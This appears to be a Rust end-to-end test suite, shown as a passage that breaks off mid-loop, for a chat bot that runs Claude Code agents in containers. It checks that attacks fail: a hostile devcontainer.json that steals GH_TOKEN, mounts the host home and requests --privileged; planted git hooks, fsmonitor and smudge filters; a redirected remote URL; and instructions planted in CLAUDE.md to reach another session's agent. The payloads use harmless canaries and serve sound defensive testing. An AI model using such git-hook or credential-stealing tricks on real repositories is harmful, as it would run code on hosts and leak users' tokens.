//! Containment, end to end (issue #11): each test performs an attack through the whole bot on
//! the testbed (fake Mattermost → bot → real SSH → real git, devcontainer CLI, rootless podman
//! → the real Claude Code CLI → the scripted model) and shows it fails.

mod support;

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use serde_json::Value;
use session_manager::runtime::shell::Script;
use session_manager::runtime::ssh::{HostKeyPolicy, SshConfig, SshKey, SshPool};
use session_manager::store::SessionState;
use support::model_server::{Reply, Script as ModelScript};
use support::stack::{BotProcess, Stack, READY_TIMEOUT};
use support::testbed::Testbed;

/// A short random suffix for names of this run.
fn unique() -> String {
    uuid::Uuid::new_v4().simple().to_string()[..10].to_owned()
}

/// The testbed's bare repositories' directory on the VM.
fn git_root(tb: &Testbed) -> String {
    tb.get("SM_TEST_GIT_BASE_URL")
        .trim_start_matches("file://")
        .to_owned()
}

/// Paths on the VM removed when the test ends, also when it fails, and the VM user's test
/// environment file restored.
struct VmCleanup {
    paths: Vec<String>,
    env_file: bool,
}

impl Drop for VmCleanup {
    fn drop(&mut self) {
        let paths = std::mem::take(&mut self.paths);
        let env_file = self.env_file;
        let tb = Testbed::load();
        let _ = std::thread::spawn(move || {
            let Ok(rt) = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
            else {
                return;
            };
            rt.block_on(async move {
                let Ok(vm) = pool(&tb) else { return };
                let mut s = Script::new();
                for path in &paths {
                    let _ = s.command("rm", &["-rf", path.as_str()]);
                }
                if env_file {
                    s.raw(r#"rm -f "$HOME/.config/sm-testbed/env.sh""#);
                }
                let _ = vm.run(&s).await;
                vm.close().await;
            });
        })
        .join();
    }
}

fn pool(tb: &Testbed) -> Result<SshPool, session_manager::runtime::ssh::SshError> {
    SshPool::new(SshConfig {
        host: tb.get("SM_TEST_VM_HOST"),
        port: tb.port(),
        user: tb.get("SM_TEST_VM_USER"),
        key: SshKey::Path(tb.get("SM_TEST_VM_KEY_PATH").into()),
        host_key: HostKeyPolicy::Pinned(tb.known_hosts()),
        timeout: Duration::from_secs(60),
        max_channels_per_master: 4,
    })
}

/// Makes `acme/<name>` in the testbed's git root with `files` (path, content) on `main`.
async fn make_repo(stack: &Stack, tb: &Testbed, name: &str, files: &[(&str, String)]) -> String {
    let bare = format!("{}/acme/{name}.git", git_root(tb));
    let mut s = Script::new();
    s.set("bare", &bare).expect("q");
    s.raw(r#"git init -q --bare --initial-branch=main "$bare"; tmp=$(mktemp -d); git -C "$tmp" init -q --initial-branch=main"#);
    for (path, content) in files {
        s.set("path", path)
            .expect("q")
            .set("content", content)
            .expect("q");
        s.raw(r#"mkdir -p "$(dirname "$tmp/$path")"; printf '%s' "$content" > "$tmp/$path""#);
    }
    s.raw(r#"git -C "$tmp" add -A; git -C "$tmp" -c user.name=t -c user.email=t@example.com commit -qm init; git -C "$tmp" push -q "$bare" main; rm -rf "$tmp""#);
    let out = stack.vm_run(&s).await;
    assert!(out.success(), "making {name}: {}", out.stderr);
    bare
}

/// A repository `acme/<name>` whose `.devcontainer/` holds `config` and a Dockerfile that
/// builds on the sandbox image (`FROM` it, then `steps`); removed when the result drops.
async fn built_repo(
    stack: &Stack,
    tb: &Testbed,
    name: &str,
    config: &str,
    steps: &str,
) -> VmCleanup {
    let dockerfile = format!("FROM {}\n{steps}", tb.get("SM_TEST_SANDBOX_IMAGE"));
    let bare = make_repo(
        stack,
        tb,
        name,
        &[
            (".devcontainer/devcontainer.json", config.to_owned()),
            (".devcontainer/Dockerfile", dockerfile),
        ],
    )
    .await;
    VmCleanup {
        paths: vec![bare],
        env_file: false,
    }
}

/// Asks for a session on `acme/<repo>` and waits for the start to fail; returns the post that
/// says so (the progress post, in the session's thread).
async fn start_expecting_failure(stack: &Stack, repo: &str) -> support::mattermost::Post {
    stack
        .fake
        .post_as(
            &stack.alice,
            &stack.town,
            None,
            &format!("@claude start acme/{repo}"),
        )
        .expect("post");
    stack
        .wait_for("the failed start", READY_TIMEOUT, |s| {
            s.bot_post(None, "❌")
        })
        .await
}

/// Puts `GH_TOKEN=<token>` in the VM user's login environment (as an operator would).
async fn set_vm_token(stack: &Stack, token: &str) {
    let mut s = Script::new();
    s.set("token", token).expect("q");
    s.raw(r#"mkdir -p "$HOME/.config/sm-testbed"; umask 077; printf 'export GH_TOKEN=%s\n' "$token" > "$HOME/.config/sm-testbed/env.sh""#);
    assert!(stack.vm_run(&s).await.success());
}

/// Whether a path exists on the VM.
async fn exists_on_vm(stack: &Stack, path: &str) -> bool {
    let mut s = Script::new();
    s.command("test", &["-e", path]).expect("q");
    stack.vm_run(&s).await.success()
}

/// `podman container inspect` of a container, parsed.
async fn inspect(stack: &Stack, id: &str) -> Value {
    let mut s = Script::new();
    s.command("podman", &["container", "inspect", id])
        .expect("q");
    let out = stack.vm_run(&s).await;
    assert!(out.success(), "inspect: {}", out.stderr);
    let list: Value = serde_json::from_str(&out.stdout).expect("json");
    list[0].clone()
}

/// The text of the tool results the model received that contain `needle`.
fn tool_output_with(stack: &Stack, needle: &str) -> Option<String> {
    stack.model.requests().into_iter().find_map(|r| {
        r.tool_results()
            .into_iter()
            .map(|t| t.content)
            .find(|c| c.contains(needle))
    })
}

async fn wait_for_tool_output(stack: &Stack, needle: &str) -> String {
    stack
        .wait_for(
            &format!("a tool result with {needle:?}"),
            Duration::from_secs(120),
            |s| tool_output_with(s, needle),
        )
        .await
}

/// Attack 1: a repository's devcontainer.json runs a command on the VM, copies the VM's token
/// into the container, bind-mounts the VM user's home and asks for --privileged.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_hostile_devcontainer_json_is_vetted_and_the_agent_runs_in_the_repositorys_image() {
    let tb = Testbed::load();
    let id = unique();
    let token = format!("ghp_{}", uuid::Uuid::new_v4().simple());
    let canary = format!("/tmp/sm-init-canary-{id}");
    let script = ModelScript::new()
        .on_last_user(
            "look around",
            Reply::bash("cat /etc/sm-repo-image; echo \"stolen=[${STOLEN:-}] plain=[${PLAIN:-}]\"; ls /host-home 2>&1 | head -n 1; echo done-looking"),
        )
        .on_tool_result("done-looking", Reply::text("Looked around."))
        .fallback(Reply::text("ok"));
    let stack = Stack::start(script).await;
    let repo = format!("hostile-{id}");
    let bare = make_repo(
        &stack,
        &tb,
        &repo,
        &[
            (
                ".devcontainer/devcontainer.json",
                format!(
                    r#"// A hostile repository's configuration.
{{
    "name": "hostile",
    "build": {{ "dockerfile": "Dockerfile" }},
    "initializeCommand": "touch {canary}",
    "containerEnv": {{ "STOLEN": "${{localEnv:GH_TOKEN}}", "PLAIN": "kept-{id}" }},
    "mounts": ["source=${{localEnv:HOME}},target=/host-home,type=bind"],
    "runArgs": ["--privileged"],
    "remoteUser": "claude"
}}"#
                ),
            ),
            (
                ".devcontainer/Dockerfile",
                format!(
                    "FROM {}\nUSER root\nRUN echo repo-image > /etc/sm-repo-image\nUSER claude\n",
                    tb.get("SM_TEST_SANDBOX_IMAGE")
                ),
            ),
        ],
    )
    .await;
    let _cleanup = VmCleanup {
        paths: vec![bare, canary.clone()],
        env_file: true,
    };
    set_vm_token(&stack, &token).await;

    let (channel, root) = stack
        .start_session(&format!("@claude start acme/{repo}"))
        .await;
    let session = stack.session_at(&channel, &root).await;
    let ready = stack
        .wait_for_bot_post("the start progress", Some(&root), "Ready")
        .await;
    for dropped in [
        "initializeCommand",
        "runArgs --privileged",
        "`mounts`",
        "containerEnv.STOLEN",
    ] {
        assert!(
            ready.message.contains(dropped),
            "{dropped} listed as dropped in: {}",
            ready.message
        );
    }
    assert!(
        !exists_on_vm(&stack, &canary).await,
        "initializeCommand ran on the VM"
    );
    let container = session.container_id.clone().expect("container");
    let inspected = inspect(&stack, &container).await;
    assert_eq!(inspected["HostConfig"]["Privileged"], Value::Bool(false));
    let mounts = inspected["Mounts"].as_array().expect("mounts");
    assert!(
        mounts.iter().all(|m| m["Destination"] != "/host-home"
            && m["Source"] != "/home/claude"
            && m["Source"] != "/home/claude/"),
        "no mount of the VM user's home: {mounts:?}"
    );
    assert!(
        !inspected.to_string().contains(&token),
        "the token is nowhere in the container's configuration"
    );

    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "look around")
        .expect("post");
    let output = wait_for_tool_output(&stack, "done-looking").await;
    assert!(
        output.contains("repo-image"),
        "the repository's image: {output}"
    );
    assert!(output.contains("stolen=[]"), "no token: {output}");
    assert!(
        output.contains(&format!("plain=[kept-{id}]")),
        "plain env kept: {output}"
    );
    assert!(
        output.contains("No such file"),
        "/host-home is not mounted: {output}"
    );
    assert!(!output.contains(&token));

    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "!stop")
        .expect("post");
    stack
        .wait_for_state(&session.id, SessionState::Ended, Duration::from_secs(60))
        .await;
    stack.finish().await;
}

/// A git HTTP server that refuses everything and records what it was asked (and with which
/// credentials): any request at all means the changed URL was used.
#[derive(Clone, Default)]
struct Recorder(Arc<Mutex<Vec<Seen>>>);

/// A request's path and its Authorization header, if any.
type Seen = (String, Option<String>);

async fn record(State(seen): State<Recorder>, request: Request) -> Response {
    let auth = request
        .headers()
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .map(str::to_owned);
    seen.0
        .lock()
        .expect("lock")
        .push((request.uri().to_string(), auth));
    (
        StatusCode::UNAUTHORIZED,
        [("WWW-Authenticate", "Basic realm=\"git\"")],
        "credentials, please",
    )
        .into_response()
}

/// Attack 2: from inside a main-clone session, and then from a worktree session on the same
/// repository, plant a hook and git configuration in the clone's shared git directory: both
/// are refused (its hooks and config are read-only in every container). Then the same is
/// planted on the VM, as a container of an older version or a trusted configuration could
/// have (a post-checkout hook, core.fsmonitor, a smudge filter, a changed
/// remote.origin.url), and sessions on the same repository (a worktree, and a branch in the
/// main clone) make the bot run git there: nothing of it runs, the planted hook is taken out
/// of the clone (and the thread told), and no credential leaves.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn git_on_the_vm_never_runs_what_a_container_wrote_nor_sends_the_token_elsewhere() {
    let tb = Testbed::load();
    let id = unique();
    let token = format!("ghp_{}", uuid::Uuid::new_v4().simple());
    let recorder = Recorder::default();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let http = {
        let app = axum::Router::new()
            .fallback(record)
            .with_state(recorder.clone());
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        })
    };
    let canaries: Vec<String> = ["hook", "fsmonitor", "filter"]
        .iter()
        .map(|k| format!("/tmp/sm-{k}-canary-{id}"))
        .collect();
    let plant = format!(
        "printf '#!/bin/sh\\ntouch {hook}\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && \
         git config core.fsmonitor 'touch {fsmonitor}' && git config filter.evil.smudge 'touch {filter}' && \
         git config filter.evil.clean 'touch {filter}' && printf '* filter=evil\\n' > .gitattributes && \
         git config core.hooksPath .git/hooks && git remote set-url origin http://127.0.0.1:{port}/evil/repo.git",
        hook = canaries[0],
        fsmonitor = canaries[1],
        filter = canaries[2],
    );
    // From a container: each step on its own, so that each refusal shows.
    let attempt = |who: &str| {
        format!(
            "d=$(git rev-parse --git-common-dir); \
             {{ printf '#!/bin/sh\\ntouch \"$PWD/hook-ran\"\\n' > \"$d/hooks/post-commit\" && chmod +x \"$d/hooks/post-commit\"; }} 2>/dev/null && echo {who}-hook-written || echo {who}-hook-refused; \
             git config core.hooksPath /tmp 2>/dev/null && echo {who}-config-written || echo {who}-config-refused; \
             git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m probe && echo committed; \
             ls hook-ran 2>/dev/null || echo no-hook-ran; echo tried-{who}-{id}"
        )
    };
    let script = ModelScript::new()
        .on_last_user("plant it", Reply::bash(attempt("main")))
        .on_tool_result(format!("tried-main-{id}"), Reply::text("Tried."))
        .on_last_user("plant from the worktree", Reply::bash(attempt("worktree")))
        .on_tool_result(format!("tried-worktree-{id}"), Reply::text("Tried too."))
        .fallback(Reply::text("ok"));
    let stack = Stack::start(script).await;
    let repo = format!("gitattack-{id}");
    let bare = make_repo(&stack, &tb, &repo, &[("README.md", "hello\n".into())]).await;
    let mut paths = vec![bare];
    paths.extend(canaries.iter().cloned());
    let _cleanup = VmCleanup {
        paths,
        env_file: true,
    };
    set_vm_token(&stack, &token).await;

    let (channel, root) = stack
        .start_session(&format!("@claude start acme/{repo}"))
        .await;
    let planter = stack.session_at(&channel, &root).await;
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "plant it")
        .expect("post");
    let tried = wait_for_tool_output(&stack, &format!("tried-main-{id}")).await;
    for expected in [
        "main-hook-refused",
        "main-config-refused",
        "committed",
        "no-hook-ran",
    ] {
        assert!(tried.contains(expected), "{expected}: {tried}");
    }
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "!stop")
        .expect("post");
    stack
        .wait_for_state(&planter.id, SessionState::Ended, Duration::from_secs(60))
        .await;
    let clone = format!("{}/repos/local/acme/{repo}", stack.vm_root);
    let mut look = Script::new();
    look.set("clone", &clone).expect("q");
    look.raw(r#"ls "$clone/.git/hooks"; git config --file "$clone/.git/config" --get core.hooksPath || true"#);
    let seen = stack.vm_run(&look).await.stdout;
    assert!(
        !seen.contains("post-commit") && !seen.contains("/tmp"),
        "the container changed the clone's hooks or config: {seen}"
    );
    // What an unguarded container could have left (planted on the VM directly).
    let mut plant_on_vm = Script::new();
    plant_on_vm
        .set("clone", &clone)
        .expect("q")
        .set("plant", &plant)
        .expect("q")
        .raw(r#"cd "$clone" && bash -c "$plant""#);
    let out = stack.vm_run(&plant_on_vm).await;
    assert!(out.success(), "planting on the VM: {}", out.stderr);

    // A worktree session (the bot runs git worktree add in the planted clone)...
    let (wt_channel, wt_root) = stack
        .start_session(&format!("@claude start acme/{repo} --worktree"))
        .await;
    let wt_ready = stack
        .wait_for_bot_post("the worktree's progress", Some(&wt_root), "Ready")
        .await;
    assert!(
        wt_ready
            .message
            .contains("remote.origin.url had been changed"),
        "the changed URL is reported: {}",
        wt_ready.message
    );
    assert!(
        wt_ready.message.contains("core.fsmonitor"),
        "the removed configuration is reported: {}",
        wt_ready.message
    );
    assert!(
        wt_ready
            .message
            .contains("Removed the hook `post-checkout`"),
        "the removed hook is reported: {}",
        wt_ready.message
    );
    let mut hooks = Script::new();
    hooks
        .set("clone", &clone)
        .expect("q")
        .raw(r#"ls "$clone/.git/hooks""#);
    let left = stack.vm_run(&hooks).await.stdout;
    assert!(
        !left.lines().any(|l| !l.ends_with(".sample")),
        "only git's samples stay in the clone's hooks: {left}"
    );
    // Its agent finds the clone's hooks and configuration read-only too.
    stack
        .fake
        .post_as(
            &stack.alice,
            &wt_channel,
            Some(&wt_root),
            "plant from the worktree",
        )
        .expect("post");
    let tried = wait_for_tool_output(&stack, &format!("tried-worktree-{id}")).await;
    for expected in [
        "worktree-hook-refused",
        "worktree-config-refused",
        "committed",
        "no-hook-ran",
    ] {
        assert!(tried.contains(expected), "{expected}: {tried}");
    }
    // ...and a branch session in the main clone (checkout and fetch there).
    let (_, branch_root) = stack
        .start_session(&format!("@claude start acme/{repo}@feature-{id}"))
        .await;
    stack
        .wait_for_bot_post(
            "the new branch is announced",
            Some(&branch_root),
            &format!("Branch `feature-{id}` did not exist"),
        )
        .await;
    for canary in &canaries {
        assert!(
            !exists_on_vm(&stack, canary).await,
            "{canary}: a planted program ran on the VM"
        );
    }
    let seen = recorder.0.lock().expect("lock").clone();
    assert!(
        seen.is_empty(),
        "the changed remote URL was used (and could have received the token): {seen:?}"
    );
    http.abort();
    stack.finish().await;
}

/// Attack 2, after an upgrade: a container made without the read-only git directory (by an
/// older version, or here under `SM_REPO_DEVCONTAINER=trusted`) would let its agent plant
/// hooks that every guarded container on the repository then runs. When the bot restarts
/// with settings that require the guards, it does not use that container again: it makes the
/// session's container anew, takes the planted hook and configuration out of the clone, tells
/// the thread, and the conversation goes on; the agent's next attempt is refused and a commit
/// runs no hook.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_container_without_todays_protections_is_made_again_when_its_session_resumes() {
    let tb = Testbed::load();
    let id = unique();
    let plant = |who: &str| {
        format!(
            "d=$(git rev-parse --git-common-dir); \
             {{ printf '#!/bin/sh\\ntouch \"$PWD/hook-ran\"\\n' > \"$d/hooks/post-commit\" && chmod +x \"$d/hooks/post-commit\"; }} 2>/dev/null && echo {who}-hook-written || echo {who}-hook-refused; \
             git config core.hooksPath \"$d/hooks\" 2>/dev/null && echo {who}-config-written || echo {who}-config-refused; "
        )
    };
    let attempt = |who: &str| {
        if who == "trusted" {
            format!("{} echo tried-{who}-{id}", plant(who))
        } else {
            format!(
                "{} git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m probe && echo committed; \
                 ls hook-ran 2>/dev/null || echo no-hook-ran; echo tried-{who}-{id}",
                plant(who)
            )
        }
    };
    let script = ModelScript::new()
        .on_last_user("plant it", Reply::bash(attempt("trusted")))
        .on_tool_result(format!("tried-trusted-{id}"), Reply::text("Tried."))
        .on_last_user("plant again", Reply::bash(attempt("resumed")))
        .on_tool_result(format!("tried-resumed-{id}"), Reply::text("Tried again."))
        .fallback(Reply::text("ok"));
    let mut stack = Stack::start_with(script, &[("repo-devcontainer", "trusted".into())]).await;
    let repo = format!("upgraded-{id}");
    let bare = make_repo(
        &stack,
        &tb,
        &repo,
        &[(
            ".devcontainer/devcontainer.json",
            format!(
                r#"{{"image": "{}", "remoteUser": "claude"}}"#,
                tb.get("SM_TEST_SANDBOX_IMAGE")
            ),
        )],
    )
    .await;
    let _cleanup = VmCleanup {
        paths: vec![bare],
        env_file: false,
    };
    let (channel, root) = stack
        .start_session(&format!("@claude start acme/{repo}"))
        .await;
    let before = stack.session_at(&channel, &root).await;
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "plant it")
        .expect("post");
    let tried = wait_for_tool_output(&stack, &format!("tried-trusted-{id}")).await;
    assert!(
        tried.contains("trusted-hook-written") && tried.contains("trusted-config-written"),
        "the trusted container is unguarded (else this test tests nothing): {tried}"
    );
    stack
        .wait_for_bot_post("the first answer", Some(&root), "Tried.")
        .await;

    // The bot restarts with the default settings (vetted): the guards are required.
    stack.extra.retain(|(k, _)| k != "repo-devcontainer");
    let bot = stack.switch_to_process(&tb).await;
    stack
        .wait_for_bot_post(
            "the container is made again",
            Some(&root),
            "container lacked protections the bot now requires",
        )
        .await;
    // What the unguarded container planted is taken out of the clone, and said.
    stack
        .wait_for_bot_post(
            "the planted hook's removal",
            Some(&root),
            "Removed the hook `post-commit`",
        )
        .await;
    stack
        .wait_for_bot_post("the session resumed", Some(&root), "continues where it was")
        .await;
    let after = stack.session_at(&channel, &root).await;
    assert_ne!(
        after.container_id, before.container_id,
        "the unguarded container is used again"
    );
    let mut old = Script::new();
    old.set("id", before.container_id.as_deref().expect("a container"))
        .expect("q")
        .raw(r#"podman container exists "$id" && echo still-there || echo gone"#);
    assert_eq!(stack.vm_run(&old).await.stdout.trim(), "gone");
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "plant again")
        .expect("post");
    let tried = wait_for_tool_output(&stack, &format!("tried-resumed-{id}")).await;
    for expected in [
        "resumed-hook-refused",
        "resumed-config-refused",
        "committed",
        "no-hook-ran",
    ] {
        assert!(tried.contains(expected), "{expected}: {tried}");
    }
    let resumed = stack
        .model
        .last_request_with("plant again")
        .expect("the request");
    assert!(
        resumed.all_messages_text().contains("trusted-hook-written"),
        "the conversation went on in the new container"
    );
    drop(bot);
    stack.finish().await;
}

/// Attack 3: a session plants instructions in its Claude state; another user's session must
/// neither see them nor the first session's transcripts; the first still resumes after a
/// restart of the bot.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn each_session_has_its_own_claude_state() {
    let tb = Testbed::load();
    let id = unique();
    let marker = format!("PLANTED-INSTRUCTION-{id}");
    let script = ModelScript::new()
        .on_last_user(
            "plant the memory",
            Reply::bash(format!(
                "mkdir -p ~/.claude && echo '{marker}' >> ~/.claude/CLAUDE.md && echo '{marker}' >> \"$CLAUDE_CONFIG_DIR/CLAUDE.md\" && echo memory-planted"
            )),
        )
        .on_tool_result("memory-planted", Reply::text("Memory planted."))
        .on_last_user(
            "look for it",
            Reply::bash(
                "cat ~/.claude/CLAUDE.md \"$CLAUDE_CONFIG_DIR/CLAUDE.md\" 2>&1; find \"$CLAUDE_CONFIG_DIR\" ~/.claude -name '*.jsonl' -printf 'transcript %f\\n' 2>/dev/null; echo looked-for-it",
            ),
        )
        .on_tool_result("looked-for-it", Reply::text("Looked."))
        .on_last_user("the secret word is walrus", Reply::text("Noted: walrus."))
        .on_last_user("which word", Reply::text("It was walrus."))
        .fallback(Reply::text("ok"));
    let mut stack = Stack::start(script).await;
    let bob = stack.bob.clone();

    let (a_channel, a_root) = stack.start_session("@claude start acme/widgets").await;
    stack
        .fake
        .post_as(
            &stack.alice,
            &a_channel,
            Some(&a_root),
            "the secret word is walrus",
        )
        .expect("post");
    stack
        .wait_for_bot_post("A's answer", Some(&a_root), "Noted: walrus.")
        .await;
    stack
        .fake
        .post_as(&stack.alice, &a_channel, Some(&a_root), "plant the memory")
        .expect("post");
    wait_for_tool_output(&stack, "memory-planted").await;

    // Bob, another repository.
    stack
        .fake
        .post_as(
            &bob,
            &stack.town,
            None,
            "@claude start acme/with-devcontainer",
        )
        .expect("post");
    let b_root = stack
        .wait_for("B's thread", Duration::from_secs(30), |s| {
            s.bot_post(None, "for `acme/with-devcontainer")
                .filter(|p| p.root_id.is_empty())
        })
        .await;
    stack
        .wait_for("B ready", READY_TIMEOUT, |s| {
            s.bot_post(Some(&b_root.id), "Ready")
        })
        .await;
    stack
        .fake
        .post_as(&bob, &b_root.channel_id, Some(&b_root.id), "look for it")
        .expect("post");
    let seen = wait_for_tool_output(&stack, "looked-for-it").await;
    assert!(
        !seen.contains(&marker),
        "B reads A's planted memory: {seen}"
    );
    let a = stack.session_at(&a_channel, &a_root).await;
    let a_conversation = a.agent_session_id.clone().expect("A's conversation");
    assert!(
        seen.contains("transcript "),
        "B sees its own transcript (the listing works): {seen}"
    );
    assert!(
        !seen.contains(&a_conversation),
        "B sees A's transcript {a_conversation}: {seen}"
    );
    for request in stack.model.requests() {
        if request.all_messages_text().contains("look for it") {
            assert!(
                !request.system_text.contains(&marker)
                    && !request.all_messages_text().contains(&marker),
                "A's planted instruction reached B's model context"
            );
        }
    }

    // A resumes its conversation after the bot restarts (its state survived).
    let bot = stack.switch_to_process(&tb).await;
    stack
        .wait_for_bot_post("A resumed", Some(&a_root), "continues where it was")
        .await;
    stack
        .fake
        .post_as(&stack.alice, &a_channel, Some(&a_root), "which word")
        .expect("post");
    stack
        .wait_for_bot_post(
            "A's answer after the restart",
            Some(&a_root),
            "It was walrus.",
        )
        .await;
    let resumed = stack
        .model
        .last_request_with("which word")
        .expect("the request");
    assert!(
        resumed
            .all_messages_text()
            .contains("the secret word is walrus"),
        "the resumed conversation carries its history"
    );
    drop(bot);
    stack.finish().await;
}

/// Attack 4: a second session names a worktree another session works in: refused where it was
/// asked, before any thread or record is made.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_worktree_in_use_is_refused_and_the_owners_work_survives() {
    let id = unique();
    let script = ModelScript::new()
        .on_last_user(
            "write the file",
            Reply::bash(format!(
                "echo owner-work > owner-{id}.txt && echo wrote-{id}"
            )),
        )
        .on_tool_result(format!("wrote-{id}"), Reply::text("Written."))
        .on_last_user("still there", Reply::text("Still here."))
        .fallback(Reply::text("ok"));
    let stack = Stack::start(script).await;
    let bob = stack.bob.clone();
    let name = format!("shared-{id}");
    let (channel, root) = stack
        .start_session(&format!("@claude start acme/widgets --worktree={name}"))
        .await;
    let owner = stack.session_at(&channel, &root).await;
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "write the file")
        .expect("post");
    wait_for_tool_output(&stack, &format!("wrote-{id}")).await;

    let sessions_before = stack.store.unended_sessions().await.expect("list").len();
    let asked = stack
        .fake
        .post_as(
            &bob,
            &stack.town,
            None,
            &format!("@claude start acme/widgets --worktree={name}"),
        )
        .expect("post");
    // Refused before anything is made, in the place where it was asked.
    let refused = stack
        .wait_for_bot_post("the refusal", Some(&asked.id), &format!("`{name}`"))
        .await;
    assert!(
        refused.message.contains(&owner.id[..8]) && refused.message.contains("belongs to"),
        "the refusal names the owner's session: {}",
        refused.message
    );
    assert_eq!(
        stack.store.unended_sessions().await.expect("list").len(),
        sessions_before,
        "no session was recorded for the refused start"
    );
    assert!(
        !stack.fake.posts().iter().any(|p| p.channel_id == channel
            && p.root_id.is_empty()
            && p.id != root
            && p.message.contains("Session for")),
        "no thread was opened for it"
    );

    let file = format!(
        "{}/owner-{id}.txt",
        owner.workspace_path.clone().expect("workspace")
    );
    assert!(
        exists_on_vm(&stack, &file).await,
        "the owner's worktree and work are intact after the refused session ended"
    );
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "still there")
        .expect("post");
    stack
        .wait_for_bot_post("the owner still works", Some(&root), "Still here.")
        .await;
    stack
        .fake
        .post_as(&stack.alice, &channel, Some(&root), "!stop")
        .expect("post");
    stack
        .wait_for_state(&owner.id, SessionState::Ended, Duration::from_secs(60))
        .await;
    stack.finish().await;
}

/// Every container on the VM labelled with `session`, by id.
async fn containers_of(stack: &Stack, session: &str) -> Vec<String> {
    let mut s = Script::new();
    s.command(
        "podman",
        &[
            "ps",
            "-a",
            "--no-trunc",
            "--quiet",
            "--filter",
            &format!("label=session-manager.session={session}"),
        ],
    )
    .expect("q");
    stack
        .vm_run(&s)
        .await
        .stdout
        .lines()
        .map(str::to_owned)
        .filter(|l| !l.is_empty())
        .collect()
}

/// Attack 5 (leftovers): a stop while `devcontainer up` builds leaves no container; the
/// reconciler removes a labelled container of an unknown session and starts a live session's
/// container stopped by hand.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn nothing_is_left_running_that_no_session_owns() {
    let tb = Testbed::load();
    let id = unique();
    let stack = Stack::start_with(
        ModelScript::new()
            .on_last_user("are you back", Reply::text("Back and running."))
            .fallback(Reply::text("ok")),
        &[
            ("reconcile-interval-secs", "1".into()),
            ("reconcile-grace-secs", "2".into()),
        ],
    )
    .await;
    let repo = format!("slowbuild-{id}");
    let bare = make_repo(
        &stack,
        &tb,
        &repo,
        &[
            (
                ".devcontainer/devcontainer.json",
                r#"{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "claude"}"#.into(),
            ),
            (
                ".devcontainer/Dockerfile",
                format!("FROM {}\nRUN sleep 45\n", tb.get("SM_TEST_SANDBOX_IMAGE")),
            ),
        ],
    )
    .await;
    let stray = format!("sm-stray-{id}");
    let _cleanup = VmCleanup {
        paths: vec![bare],
        env_file: false,
    };

    // A stop while the container is being built.
    stack
        .fake
        .post_as(
            &stack.alice,
            &stack.town,
            None,
            &format!("@claude start acme/{repo}"),
        )
        .expect("post");
    let root = stack
        .wait_for("the thread", Duration::from_secs(30), |s| {
            s.bot_post(None, &format!("for `acme/{repo}`"))
                .filter(|p| p.root_id.is_empty())
        })
        .await;
    stack
        .wait_for("the container step", Duration::from_secs(120), |s| {
            s.bot_post(Some(&root.id), "Starting the container")
        })
        .await;
    let slow = stack.session_at(&root.channel_id, &root.id).await;
    // Let the build begin its slow step.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let mut s = Script::new();
        s.raw("pgrep -f 'sleep 45' >/dev/null && echo building || true");
        if stack.vm_run(&s).await.stdout.contains("building") {
            break;
        }
        assert!(Instant::now() < deadline, "the build never started");
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    stack
        .fake
        .post_as(&stack.alice, &root.channel_id, Some(&root.id), "!stop")
        .expect("post");
    stack
        .wait_for_state(&slow.id, SessionState::Ended, Duration::from_secs(60))
        .await;
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let mut s = Script::new();
        // `[s]essions/…` matches other processes' command lines, not this script's own.
        s.set("pattern", &format!("[s]essions/{}", slow.id))
            .expect("q");
        s.raw(r#"if pgrep -f "$pattern" >/dev/null || pgrep -f '[s]leep 45' >/dev/null; then echo up-running; fi"#);
        let up_running = stack.vm_run(&s).await.stdout.contains("up-running");
        if containers_of(&stack, &slow.id).await.is_empty() && !up_running {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "60 s after the stop something of the session still runs"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }

    // A container with the bot's labels that no session knows.
    let mut s = Script::new();
    s.command(
        "podman",
        &[
            "run",
            "-d",
            "--name",
            &stray,
            "--label",
            "session-manager.managed=true",
            "--label",
            &format!("session-manager.session={}", uuid::Uuid::new_v4()),
            &tb.get("SM_TEST_SANDBOX_IMAGE"),
            "sleep",
            "600",
        ],
    )
    .expect("q");
    let out = stack.vm_run(&s).await;
    assert!(out.success(), "a stray container: {}", out.stderr);
    let stray_id = out.stdout.trim().to_owned();
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let mut s = Script::new();
        s.command("podman", &["container", "exists", &stray_id])
            .expect("q");
        if !stack.vm_run(&s).await.success() {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the reconciler did not remove the stray container"
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }

    // A live session's container stopped by hand comes back.
    let (channel, live_root) = stack.start_session("@claude start acme/widgets").await;
    let live = stack.session_at(&channel, &live_root).await;
    let container = live.container_id.clone().expect("container");
    let mut s = Script::new();
    s.command("podman", &["stop", "--time", "1", &container])
        .expect("q");
    assert!(stack.vm_run(&s).await.success());
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
